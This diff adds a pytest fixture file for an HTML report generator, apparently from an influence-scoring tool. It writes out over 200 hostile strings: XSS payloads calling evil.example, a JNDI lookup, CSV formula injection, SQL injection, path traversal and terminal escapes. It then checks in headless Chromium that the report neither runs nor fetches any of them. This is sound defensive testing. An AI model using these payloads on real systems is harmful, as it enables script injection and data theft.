@@ -1,0 +1,193 @@
+"""Scores made by hand, a corpus of hostile texts, and a real browser."""
+
+from __future__ import annotations
+
+import os
+import shutil
+from pathlib import Path
+
+import numpy as np
+import pytest
+
+from whence.report import Extras, Table, TokenScores, render_html, report_data
+from whence.results import RowView, Scores
+
+LAUNCH = (
+    "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking "
+    "--disable-component-update --disable-sync"
+).split()
+
+
+def make_scores(n: int = 40, queries: int = 3, seed: int = 0, **changes) -> Scores:
+    """A complete set of scores: three sources, prompts with completions, layers, BM25, one unscored row."""
+    random = np.random.default_rng(seed)
+    values = random.standard_t(2.5, (queries, n)) * 3
+    values[:, 5] = np.nan
+    layers = tuple(f"model.layers.{d}.{k}" for d in (0, 1) for k in ("mlp.up_proj", "self_attn.q_proj"))
+    share = random.dirichlet(np.ones(len(layers)), n)
+    rows = {
+        f"row-{i:03d}": RowView(
+            f"row-{i:03d}", f"Document {i} speaks of place {i % 7}.", f"source-{i % 3}", f"file-{i % 3}.jsonl:{i + 1}",
+            "quarantined:no_loss_tokens" if i == 5 else "truncated" if i == 6 else "scored",
+        )
+        for i in range(n)
+    }  # fmt: skip
+    asked = {
+        f"q-{q}": RowView(
+            f"q-{q}", f"Where is {q}? There.", "asked", f"q.jsonl:{q + 1}", spans=(("prompt", f"Where is {q}?"), ("completion", " There."))
+        )
+        for q in range(queries)
+    }  # fmt: skip
+    return Scores(
+        values=values,
+        query_ids=tuple(asked),
+        train_ids=tuple(rows),
+        n_train=n - 1,
+        about={"method": "ekfac", "damping": "relative:0.1", "model": {"path": "tiny"}, "coverage": 0.5, "seed": 0},
+        per_layer=values[:, :, None] * share[None],
+        layers=layers,
+        self_influence=random.gamma(1, 2, n),
+        train_rows=rows,
+        query_rows=asked,
+        lexical=np.where(random.random((queries, n)) < 0.5, 0, random.gamma(2, 2, (queries, n))).astype(np.float32),
+    ).with_(**changes)
+
+
+@pytest.fixture
+def scores() -> Scores:
+    return make_scores()
+
+
+@pytest.fixture
+def make():
+    return make_scores
+
+
+def _payloads() -> list[str]:
+    acts = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "confirm`1`"]
+    shells = [
+        "<script>{}</script>", "</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>",
+        "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src='javascript:{}'></iframe>", "<a href='javascript:{}'>x</a>",
+        "\"><script>{}</script>", "' onmouseover='{}' x='", "\" autofocus onfocus=\"{}\" x=\"", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
+        "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<math><mtext><script>{}</script></mtext></math>",
+        "<style>@import '//evil.example/{}';</style>", "<link rel=stylesheet href='//evil.example/{}'>", "<base href='//evil.example/{}'>",
+        "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<form action='javascript:{}'><button>x</button></form>", "<object data='javascript:{}'></object>",
+        "<embed src='javascript:{}'>", "<!--<script>{}</script>-->", "--><script>{}</script><!--", "<![CDATA[<script>{}</script>]]>", "<template><script>{}</script></template>",
+        "<noscript><p title='</noscript><img src=x onerror={}>'>", "<textarea></textarea><script>{}</script>", "<title></title><script>{}</script>",
+        "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "javascript:{}", "data:text/html,<script>{}</script>", "<svg><script href='data:text/javascript,{}'/></svg>",
+        "<svg><animate onbegin={} attributeName=x></svg>", "<marquee onstart={}>", "<x contenteditable onbeforeinput={}>", "<div style='background:url(//evil.example/{})'>",
+        "<table background='//evil.example/{}'>", "\u2028{}\u2029", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "%3Cscript%3E{}%3C/script%3E",
+        "<scr\x00ipt>{}</scr\x00ipt>", "<SCRIPT SRC=//evil.example/{}></SCRIPT>", "__proto__ {}", "constructor {}", "\x1b]8;;http://evil.example\x1b\\{}\x1b]8;;\x1b\\",
+    ]  # fmt: skip
+    lone = [
+        "\x00", "\x07\x08\x1b[31m", "\x9b31m", "\x1b]52;c;ZXZpbA==\x07", "\r\nInjected: header", "\u202egnp.exe", "\u2066left\u2069", "\u200b\u200c\u2060\ufeff", "\ud800", "a\udfffb",
+        "Z" + "\u0301" * 300, "é" * 3, "שלום עולם", "مرحبا بالعالم", "東京タワー", "👩‍👩‍👧‍👦🇫🇷", "\U000e0041\U000e0042", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1",
+        "％00", "[link=http://evil.example]x[/link]", "[bold red]x[/]", "{{data}}", "{{script}}", "${jndi:ldap://evil.example}", "../../etc/passwd", "CON", "' OR 1=1 --", "\\", "\\\\evil.example\\x",
+        "null", "undefined", "NaN", "-1e999", "toString", "hasOwnProperty", "]]>", "<", ">", "&", "\"", "'", "`", "</", "<!", "<?xml?>", " ", "\n\n\n", "\t\t", "\u3000",
+    ]  # fmt: skip
+    return [shell.format(act) for shell in shells for act in acts[: 4 if "script" in shell else 3]] + lone
+
+
+@pytest.fixture(scope="session")
+def payloads() -> list[str]:
+    """At least 200 texts that would act if anything took them for more than text."""
+    found = _payloads()
+    assert len(found) >= 200 and len(set(found)) == len(found)
+    return found
+
+
+@pytest.fixture
+def hostile(payloads) -> tuple[Scores, Extras]:
+    """Scores and extras with a payload in every slot that can hold text."""
+    n, queries = len(payloads), 12
+    random = np.random.default_rng(0)
+    ids = [f"{p}#{i}" for i, p in enumerate(payloads)]
+    rows = {
+        ids[i]: RowView(ids[i], p + " tail", p, p, p if p.strip() else "scored", (("prompt", p), (p, " tail")), p)
+        for i, p in enumerate(payloads)
+    }
+    asked = [f"{payloads[q * 20]}?{q}" for q in range(queries)]
+    query_rows = {
+        a: RowView(a, payloads[q * 20] + " said", payloads[q], payloads[q], "scored", ((payloads[q], " said"),), payloads[q])
+        for q, a in enumerate(asked)
+    }
+    scores = Scores(
+        values=random.normal(size=(queries, n)),
+        query_ids=tuple(asked),
+        train_ids=tuple(ids),
+        n_train=n,
+        about={p: {p: p} for p in payloads} | {"method": payloads[1], "model": payloads[2], "damping": payloads[3], "train": payloads[4], "warnings": payloads},
+        per_layer=random.normal(size=(queries, n, 20)),
+        layers=tuple(payloads[:20]),
+        train_rows=rows,
+        query_rows=query_rows,
+        lexical=random.random((queries, n)).astype(np.float32),
+        self_influence=random.random(n),
+    )  # fmt: skip
+    extras = Extras(
+        title=payloads[0],
+        command=" ".join(payloads),
+        quarantine=[{"location": p, "code": p, "message": p, "id": p} for p in payloads],
+        tokens={(asked[0], i): [TokenScores(((0, 1), (1, 3)), (1.0, -1.0), kind=p)] for i, p in zip(ids, payloads, strict=True)},
+        groups={i: p for i, p in zip(ids, payloads, strict=True)},
+        tables=[Table(payloads[0], tuple(payloads[:5]), tuple((p,) * 5 for p in payloads), payloads[1])],
+    )  # fmt: skip
+    return scores, extras
+
+
+@pytest.fixture(scope="session")
+def chromium():
+    """A real headless Chromium. Absent: a failure in CI, a loud skip elsewhere."""
+    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+    if path is None:
+        message = "NO CHROMIUM: the report was NOT tested in a browser (apt-get install chromium)"
+        if os.environ.get("CI"):
+            pytest.fail(message)
+        pytest.skip(message)
+    from playwright.sync_api import sync_playwright
+
+    with sync_playwright() as play:
+        browser = play.chromium.launch(executable_path=path, args=LAUNCH)
+        yield browser
+        browser.close()
+
+
+class Opened:
+    """A page with everything that must not happen written down."""
+
+    def __init__(self, browser, path: Path, **context) -> None:
+        self.context = browser.new_context(viewport={"width": 1280, "height": 900}, **context)
+        self.page = self.context.new_page()
+        self.dialogs, self.requests, self.problems = [], [], []
+        self.page.on("dialog", lambda d: (self.dialogs.append(d.message), d.dismiss()))
+        self.page.on("request", lambda r: self.requests.append(r.url))
+        self.page.on("console", lambda m: self.problems.append(m.text) if m.type in {"error", "warning"} else None)
+        self.page.on("pageerror", lambda e: self.problems.append(str(e)))
+        self.page.add_init_script(
+            "window.violations = []; document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective + ' ' + e.blockedURI));"
+        )
+        self.page.goto(path.as_uri())
+        self.page.wait_for_selector("html[data-ready]", timeout=60_000)
+
+    def nothing_happened(self, path: Path) -> None:
+        """Raises unless the page did nothing but show itself."""
+        outside = [u for u in self.requests if u != path.as_uri() and not u.startswith(("data:,", "blob:"))]
+        violations = self.page.evaluate("window.violations")
+        assert (self.dialogs, outside, violations, self.problems) == ([], [], [], [])
+        assert self.page.evaluate("window.pwned") is None
+
+
+@pytest.fixture
+def open_report(chromium, tmp_path):
+    """(scores, extras, context options) -> Opened, path."""
+    opened = []
+
+    def open_(scores, extras=None, **context):
+        path = tmp_path / f"report-{len(opened)}.html"
+        path.write_text(render_html(report_data(scores, extras=extras)), encoding="utf-8")
+        opened.append(Opened(chromium, path, **context))
+        return opened[-1], path
+
+    yield open_
+    for page in opened:
+        page.context.close()
